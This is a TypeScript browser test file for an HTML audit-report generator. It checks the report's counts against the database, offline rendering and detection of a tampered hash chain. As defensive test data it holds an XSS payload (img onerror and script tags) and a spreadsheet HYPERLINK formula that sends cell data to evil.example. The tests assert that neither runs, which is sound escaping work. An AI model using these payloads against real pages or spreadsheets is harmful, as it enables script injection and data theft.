import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { finished } from 'node:stream/promises';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { chromium, type Browser, type Page } from 'playwright-core';
import { appendAudit } from '../../src/audit/append.js';
import { writeReport, type ReportOptions, type ReportSummary } from '../../src/audit/report.js';
import { queryRows } from '../../src/db/client.js';
import { auditLog } from '../../src/db/schema/index.js';
import type { Executor } from '../../src/db/types.js';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';
import { makeEvidence, tamper } from './fixtures.js';
import { GENERATED_AT, MARCH, seedScenario, type Scenario } from './scenario.js';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../helpers/chromium.js';

const XSS = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>';

async function reportFile(
  db: Executor,
  dir: string,
  name: string,
  opts: Omit<ReportOptions, 'now'>,
): Promise<{ path: string; summary: ReportSummary }> {
  const path = join(dir, name);
  const out = createWriteStream(path);
  const summary = await writeReport(db, { ...opts, now: GENERATED_AT }, out);
  out.end();
  await finished(out);
  return { path, summary };
}

/** Opens a file in Chromium, recording every request the page makes. */
async function open(browser: Browser, path: string): Promise<{ page: Page; requests: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto(pathToFileURL(path).href, { waitUntil: 'load' });
  return { page, requests };
}

const text = async (page: Page, selector: string): Promise<string> => ((await page.textContent(selector)) ?? '').trim();

describe('audit report in Chromium', { timeout: 60_000 }, () => {
  let t: TestDatabase;
  let s: Scenario;
  let browser: Browser;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'steward-report-'));
    [t, browser] = await Promise.all([
      createTestDatabase(),
      chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS }),
    ]);
    s = await seedScenario(t.db);
    // A reviewer's reason and a key name trying to inject markup.
    await appendAudit(t.db, {
      actor: { type: 'slack_user', slackId: 'U0EVE', anthropicId: null },
      action: 'review.decided',
      subject: { type: 'api_key', id: 'apikey_xss' },
      reviewItemId: 'ri_xss',
      outcome: 'keep',
      evidence: makeEvidence({ subject: { type: 'api_key', id: 'apikey_xss', label: XSS } }) as unknown as Record<
        string,
        unknown
      >,
      details: { decision: 'keep', reason: XSS },
      at: new Date('2025-03-15T00:00:00Z'),
    });
  });
  afterAll(async () => {
    await browser?.close();
    await t?.destroy();
    rmSync(dir, { recursive: true, force: true });
  });

  it('renders offline, and its numbers match the database', async () => {
    const { path, summary } = await reportFile(t.db, dir, 'report.html', MARCH);
    const { page, requests } = await open(browser, path);
    try {
      // Self-contained: the page itself is the only thing loaded.
      expect(requests).toEqual([pathToFileURL(path).href]);

      const byOutcome = await queryRows<{ outcome: string; n: number | string }>(
        t.db,
        sql`select outcome, count(*)::int as n from audit_log
            where action = 'review.decided' and at >= ${MARCH.since.toISOString()}::timestamptz and at < ${MARCH.until.toISOString()}::timestamptz
            group by outcome`,
      );
      const total = byOutcome.reduce((a, r) => a + Number(r.n), 0);
      expect(total).toBe(s.march.length + 1);
      expect(Number(await text(page, '[data-count="decisions"]'))).toBe(total);
      for (const r of byOutcome)
        expect(Number(await text(page, `[data-count-decision="${r.outcome}"]`)), r.outcome).toBe(Number(r.n));
      expect(await page.locator('[data-count-decision]').count()).toBe(byOutcome.length);

      const items = new Set([...s.march.map((d) => d.reviewItemId), 'ri_xss']);
      expect(Number(await text(page, '[data-count="reviewed-items"]'))).toBe(items.size);

      const actions: Record<string, number> = { none: 1 }; // the injected decision has no action
      for (const d of s.march) actions[d.action?.outcome ?? 'none'] = (actions[d.action?.outcome ?? 'none'] ?? 0) + 1;
      for (const [k, n] of Object.entries(actions))
        expect(Number(await text(page, `[data-count-action="${k}"]`)), k).toBe(n);

      const [rows] = await queryRows<{ n: number | string; head: string }>(
        t.db,
        sql`select count(*)::int as n, (select hash from audit_log order by seq desc limit 1) as head from audit_log`,
      );
      expect(await page.getAttribute('#chain', 'data-chain-ok')).toBe('true');
      expect(Number(await text(page, '[data-count="chain-rows"]'))).toBe(Number(rows!.n));
      expect(await text(page, '[data-chain-head-hash]')).toBe(rows!.head);

      // One evidence section per decision, each with its weekly chart drawn.
      expect(await page.locator('article.decision').count()).toBe(total);
      const charts = page.locator('article.decision svg.chart');
      expect(await charts.count()).toBe(total);
      const box = await charts.first().boundingBox();
      expect(box!.width).toBeGreaterThan(100);
      expect(box!.height).toBeGreaterThan(40);
      expect(await charts.first().locator('rect').count()).toBe(12);
      expect(summary).toMatchObject({ decisions: total, reviewedItems: items.size });

      const shot = await page.screenshot({ fullPage: true });
      expect(shot.subarray(1, 4).toString('latin1')).toBe('PNG');
      expect(shot.length).toBeGreaterThan(20_000);
    } finally {
      await page.close();
    }
  });

  it('shows hostile text as text: no markup gets through', async () => {
    const { path } = await reportFile(t.db, dir, 'xss.html', MARCH);
    expect(readFileSync(path, 'utf8')).not.toContain('<script>window');
    const { page } = await open(browser, path);
    try {
      expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
      expect(await page.locator('body script, body img').count()).toBe(0);
      const article = page.locator('article[data-review-item="ri_xss"]');
      expect(await article.locator('h3').innerText()).toContain(XSS);
      expect(await page.locator('article[data-review-item="ri_evil"]').innerText()).toContain(
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      );
    } finally {
      await page.close();
    }
  });

  it('one review item, or a period with no decisions', async () => {
    const one = await reportFile(t.db, dir, 'one.html', { reviewItemId: 'ri_twice' });
    expect(one.summary).toMatchObject({ decisions: 2, reviewedItems: 1, byDecision: { not_mine: 1, revoke: 1 } });
    const none = await reportFile(t.db, dir, 'none.html', { since: new Date('2030-01-01T00:00:00Z') });
    const { page } = await open(browser, none.path);
    try {
      expect(await text(page, '[data-count="decisions"]')).toBe('0');
      expect(await page.locator('#no-decisions').count()).toBe(1);
    } finally {
      await page.close();
    }
  });
});

describe('audit report of a tampered chain', { timeout: 60_000 }, () => {
  let t: TestDatabase;
  let browser: Browser;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'steward-report-'));
    [t, browser] = await Promise.all([
      createTestDatabase(),
      chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS }),
    ]);
  });
  afterAll(async () => {
    await browser?.close();
    await t?.destroy();
    rmSync(dir, { recursive: true, force: true });
  });

  it('says the chain is broken and where', async () => {
    await seedScenario(t.db);
    await tamper(t.db, () => t.db.update(auditLog).set({ outcome: 'keep' }).where(eq(auditLog.seq, 6)));
    const { path, summary } = await reportFile(t.db, dir, 'broken.html', MARCH);
    expect(summary.chain).toMatchObject({ ok: false, problem: { seq: 6, kind: 'altered' } });
    const { page } = await open(browser, path);
    try {
      expect(await page.getAttribute('#chain', 'data-chain-ok')).toBe('false');
      expect(await text(page, '[data-chain-problem-seq]')).toBe('6');
      expect(await text(page, '[data-chain-problem-kind]')).toBe('altered');
      expect(await page.locator('#chain h2').innerText()).toMatch(/BROKEN/);
    } finally {
      await page.close();
    }
  });
});
